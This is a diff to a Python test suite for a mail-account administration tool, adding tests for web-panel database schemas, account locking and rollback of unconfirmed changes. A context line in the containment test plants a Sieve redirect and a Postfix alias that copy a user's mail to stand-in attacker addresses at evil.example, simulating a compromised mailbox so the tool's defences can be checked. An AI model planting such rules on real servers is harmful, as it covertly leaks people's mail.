@@ -8,6 +8,7 @@ import json
 import os
 import subprocess
 import time
+import traceback
 
 from mailrig import backends, clients, console
 
@@ -154,7 +155,7 @@ def containment(accounts, rig, check):
     """Sessions, queue and rules of alice: all of hers, none of bob's."""
     account, other = backends.PLACES["passwd-file"]
     old, others = backends.old_password(account), "bob-Mail-2026"
-    rig.on("mx1", "postconf -e 'default_transport = retry:later' 'defer_transports = smtp'; postfix reload >/dev/null 2>&1; mkdir -p /var/vmail/example.org/alice; "
+    rig.on("mx1", "postconf -e 'defer_transports = smtp'; postfix reload >/dev/null 2>&1; mkdir -p /var/vmail/example.org/alice; "
            "printf 'require [\"copy\"];\\nif true { redirect :copy \"thief@evil.example\"; }\\n' >/var/vmail/example.org/alice/.dovecot.sieve; chown -R 5000:5000 /var/vmail/example.org/alice; "
            "printf 'alice@example.org alice@example.org, drop@evil.example\\n' >/etc/postfix/virtual; postconf -e 'virtual_alias_maps = texthash:/etc/postfix/virtual'")
 
@@ -182,6 +183,8 @@ def containment(accounts, rig, check):
             said["after"] = [one.is_open() for one in (imap, smtp, his_imap, his_smtp)]
             os.write(tell[1], json.dumps(said).encode())
             code = 0
+        except Exception:  # told by the checks that miss what it should have said
+            traceback.print_exc()
         finally:
             os._exit(code)
     os.close(tell[1])
@@ -261,6 +264,41 @@ def wrong_configuration(accounts, rig, check):
     check("nothing was written", stored(rig) == before)
 
 
+SCHEMAS = {
+    "postfixadmin": ("mysql", "postfix", "SELECT username AS user,password FROM mailbox WHERE username = '%u' AND active='1'",
+                     "CREATE TABLE mailbox (username varchar(255), password varchar(255), name varchar(255), active tinyint, created datetime, modified datetime); INSERT INTO mailbox VALUES ('pa@x.org', '$1$x$y', '', 1, now(), now())", "pa@x.org"),
+    "iredmail": ("mysql", "vmail", "SELECT mailbox.password, mailbox.allow_nets FROM mailbox,domain WHERE mailbox.username='%u' AND mailbox.active=1",
+                 "CREATE TABLE mailbox (username varchar(255), password varchar(255), active tinyint, created datetime, passwordlastchange datetime); INSERT INTO mailbox VALUES ('ir@x.org', '{SSHA512}x', 1, now(), now())", "ir@x.org"),
+    "mailcow": ("mysql", "mailcow", "SELECT password FROM mailbox WHERE username = '%u' AND active = '1'",
+                "CREATE TABLE mailbox (username varchar(255), password varchar(255), active tinyint, created datetime, modified datetime); INSERT INTO mailbox VALUES ('mc@x.org', '{BLF-CRYPT}x', 1, now(), now()); "
+                "CREATE TABLE app_passwd (id int, name varchar(255), mailbox varchar(255), active tinyint); INSERT INTO app_passwd VALUES (1, 'Old phone', 'mc@x.org', 1); CREATE TABLE tfa (username varchar(255), active tinyint); INSERT INTO tfa VALUES ('mc@x.org', 1)", "mc@x.org"),
+    "modoboa": ("pgsql", "modoboa", "SELECT email AS user, password, '*:bytes=' || mb.quota || 'M' AS userdb_quota_rule FROM core_user u INNER JOIN admin_mailbox mb ON u.id=mb.user_id WHERE (u.email='%Lu' OR u.username='%Lu') AND u.is_active='t'",
+                "CREATE TABLE core_user (id int, email varchar, username varchar, password varchar, is_active boolean, date_joined timestamptz); INSERT INTO core_user VALUES (1, 'mo@x.org', 'mo@x.org', '{SHA256-CRYPT}x', true, now())", "mo@x.org"),
+}
+
+
+def schemas(accounts, rig, check):
+    """What the known web panels keep: found by their tables, looked up, locked and opened again."""
+    kept = rig.on("mx1", "cat /etc/dovecot/dovecot.conf")
+    for number, (preset, (driver, database, query, script, account)) in enumerate(SCHEMAS.items()):
+        host = "host=/run/my/socket user=root password=" if driver == "mysql" else "host=/run/pg user=postgres password=x"
+        rig.on("mx1", f"cat >/etc/dovecot/{preset}.ext <<'EOF'\ndriver = {driver}\nconnect = {host} dbname={database}\npassword_query = {query}\nEOF\n"
+               f"printf 'passdb {{\\n  driver = sql\\n  args = /etc/dovecot/{preset}.ext\\n}}\\n' >>/etc/dovecot/dovecot.conf")
+        if driver == "mysql":
+            rig.on("mx1", f"mariadb --no-defaults -S /run/my/socket <<'EOF'\nCREATE DATABASE {database}; USE {database}; {script};\nEOF")
+        else:
+            rig.on("mx1", f"psql -qX -h /run/pg -U postgres -c 'CREATE DATABASE {database}'; psql -qX -h /run/pg -U postgres {database} <<'EOF'\n{script};\nEOF")
+    rows = {row["preset"]: row for row in accounts("find", code=0).rows if row["preset"] and not row["source"].startswith("pgsql mail.")}
+    check("the schemas of four panels are known by their tables", set(rows) == set(SCHEMAS) and not any(row["problem"] for row in rows.values()), rows)
+    for preset, (_, _, _, _, account) in SCHEMAS.items():
+        locked, opened = accounts("lock", account), accounts("unlock", account)
+        check(f"{preset}: lock and unlock", locked.code == opened.code == 0 and locked.rows[0]["backends"] == rows.get(preset, {}).get("backend"), (locked, opened))
+    listed = {row["account"]: row for row in accounts("list", code=0).rows}
+    check("mailcow: application passwords and a second factor are known, and shown for review", listed["mc@x.org"].get("app_passwords") == 1 and listed["mc@x.org"].get("second_factor") is True and
+          any(row["kind"] == "app-password" and row["target"] == "Old phone" for row in accounts("rules", "mc@x.org", code=0).rows), listed.get("mc@x.org"))
+    (console.Path(rig.hosts["mx1"]["root"]) / "etc/dovecot/dovecot.conf").write_text(kept)
+
+
 def protected(accounts, rig, check):
     before = stored(rig)
     for name in ("root", "vmail", "mwops", "postfix"):
@@ -273,16 +311,21 @@ def protected(accounts, rig, check):
 
 
 def unconfirmed(accounts, rig, check):
-    """The server takes a change back that nobody confirms: written by hand here, as by a console that died."""
+    """The server takes a change back that nobody confirms: written by hand here, as by a console that died. Once with the helper that is
+    installed, once with the text that is sent along to root."""
     before = stored(rig)
-    mark = rig.on("mx1", "printf 'account-find\\nend\\n' | /usr/local/sbin/mailward-gate | sed -n 's/^back dovecot-2 sql \\([0-9a-f]*\\) .*/\\1/p'").strip()
-    said = rig.on("mx1", f"printf 'account-write\\n00000000000000aa lock dovecot-2 {mark} 30\\npaul@pg.example.org\\nend\\n' | /usr/local/sbin/mailward-gate")
-    check("a row is written, and the timer runs", "written" in said and stored(rig) != before, said)
+    root = console.Path(rig.hosts["mx1"]["root"])
+    server = console.HERE.parent.parent / "installer/server"
+    (root / "run/sent").write_text("".join(part.read_text() for part in sorted((server / "gate.d").glob("accounts*"))) + (server / "mailward-gate").read_text())
+    for number, (gate, back, account) in enumerate((("/usr/local/sbin/mailward-gate", "dovecot-2", "paul@pg.example.org"), ("sh /run/sent", "dovecot-3", "mia@my.example.org"))):
+        mark = rig.on("mx1", f"printf 'account-find\\nend\\n' | {gate} | sed -n 's/^back {back} sql \\([0-9a-f]*\\) .*/\\1/p'").strip()
+        said = rig.on("mx1", f"printf 'account-write\\n00000000000000a{number} lock {back} {mark} 30\\n{account}\\nend\\n' | {gate}")
+        check(f"{back}: a row is written, and the timer runs", "written" in said and stored(rig) != before, said)
     started = time.monotonic()
-    while stored(rig) != before and time.monotonic() - started < 45:
+    while (after := stored(rig)) != before and time.monotonic() - started < 60:
         time.sleep(1)
-    check("unconfirmed, the exact old row is back", stored(rig) == before)
-    check.note(f"taken back {time.monotonic() - started:.0f} s after, window 30 s")
+    check("unconfirmed, the exact old rows are back", after == before)
+    check.note(f"both taken back {time.monotonic() - started:.0f} s after, window 30 s, on a busy machine")
 
 
 def audited(accounts, check):
@@ -355,6 +398,7 @@ def run(binary, check):
             one_place(accounts, rig, check, place, account, other)
         containment(accounts, rig, check)
         wrong_configuration(accounts, rig, check)
+        schemas(accounts, rig, check)
         protected(accounts, rig, check)
         hostile(accounts, rig, check)
         unconfirmed(accounts, rig, check)
